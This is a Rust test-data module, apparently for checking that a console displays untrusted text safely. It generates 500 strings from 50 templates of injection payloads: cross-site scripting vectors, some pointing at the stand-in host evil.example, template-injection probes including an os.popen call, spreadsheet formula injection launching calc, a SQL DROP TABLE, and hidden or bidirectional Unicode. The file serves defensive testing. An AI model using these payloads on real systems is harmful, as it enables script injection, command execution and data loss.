//! Five hundred strings that try to be more than text.

/// How many.
pub(crate) const COUNT: usize = 500;

/// What each tries, with `§` where a number goes, so that no two are the same.
const TEMPLATES: [&str; 50] = [
    "<script>window.hit=§</script>",
    "<ScRiPt src=//evil.example/§></sCrIpT>",
    "</td></tr></table><script>alert(§)</script>",
    "<img src=x onerror=alert(§)>",
    "<svg onload=window.hit=§>",
    "<svg><script>alert(§)</script></svg>",
    "<math><mtext><img src=x onerror=alert(§)></mtext></math>",
    "<iframe srcdoc=\"<script>parent.hit=§</script>\"></iframe>",
    "<object data=javascript:alert(§)></object>",
    "<a href=javascript:alert(§)>x</a>",
    "<form action=//evil.example/§><button>go</button></form>",
    "<meta http-equiv=refresh content=0;url=//evil.example/§>",
    "<base href=//evil.example/§/>",
    "<link rel=stylesheet href=//evil.example/§.css>",
    "<style>body{display:none}/*§*/</style>",
    "<details open ontoggle=alert(§)>",
    "<input autofocus onfocus=alert(§)>",
    "<video><source onerror=alert(§)></video>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(§)>\">",
    "<!--§--><!-- --!><img src=x onerror=alert(§)>",
    "<template><script>alert(§)</script></template>",
    "<x/onclick=alert(§)>click",
    "\" onmouseover=\"alert(§)\" x=\"",
    "' onfocus='alert(§)' autofocus='",
    "` onfocus=alert(§) `",
    "\"><script>alert(§)</script>",
    "'><img src=x onerror=alert(§)>",
    "</title><script>alert(§)</script>",
    "</textarea><script>alert(§)</script>",
    "]]><script>alert(§)</script>",
    "javascript:alert(§)",
    "data:text/html,<script>alert(§)</script>",
    "&lt;script&gt;alert(§)&lt;/script&gt;",
    "&#60;script&#62;alert(§)&#60;/script&#62;",
    "&amp;lt;b&amp;gt;§",
    "{{§*7}}${§*7}<%=§*7%>#{§*7}",
    "{{constructor.constructor('alert(§)')()}}",
    "{%import os%}{{os.popen('§')}}",
    "=cmd|'/c calc'!A§",
    "+HYPERLINK(\"//evil.example/§\",\"x\")",
    "-2+3+cmd|'/c calc'!A§",
    "@SUM(1+§)*cmd|'/c calc'!A0",
    "expression(alert(§));background:url(javascript:alert(§))",
    "\u{202e}gpj.exe.§\u{202c}",
    "\u{2066}user\u{2069}\u{200f}§\u{200b}\u{feff}",
    "line\nbreak\r\n§\ttab",
    "\u{0}nul\u{7}bell\u{1b}[31m§\u{9b}0m",
    "\u{fe64}script\u{fe65}alert(§)\u{ff1c}/script\u{ff1e}",
    "\u{1d4e2}\u{301}\u{301}\u{301}\u{e0041}\u{e007f}§",
    "'; DROP TABLE overlaps; -- §",
];

/// One in so many is made long.
const LONG_EVERY: usize = 83;

/// Characters of a long one.
const LONG: usize = 9_000;

/// All of them.
pub(crate) fn strings() -> Vec<String> {
    (0..COUNT).map(string).collect()
}

fn string(number: usize) -> String {
    let text = TEMPLATES[number % TEMPLATES.len()].replace('§', &number.to_string());
    match number % LONG_EVERY {
        0 => text.repeat(LONG / text.len() + 1),
        _ => text,
    }
}

/// A text as the console has to show it: what cannot be seen by its number. Written here once more, so that a flaw of the console's own
/// list is not a flaw of the test's.
pub(crate) fn shown(text: &str) -> String {
    const HIDDEN: [(u32, u32); 9] = [
        (0x0, 0x1f),
        (0x7f, 0x9f),
        (0xad, 0xad),
        (0x61c, 0x61c),
        (0x200b, 0x200f),
        (0x2028, 0x202e),
        (0x2060, 0x206f),
        (0xfeff, 0xfeff),
        (0xe0000, 0xe0fff),
    ];
    let one = |point: char| {
        let number = u32::from(point);
        match HIDDEN.iter().any(|(first, last)| (*first..=*last).contains(&number)) {
            true => format!("⟦U+{number:04X}⟧"),
            false => point.to_string(),
        }
    };
    text.chars().map(one).collect()
}
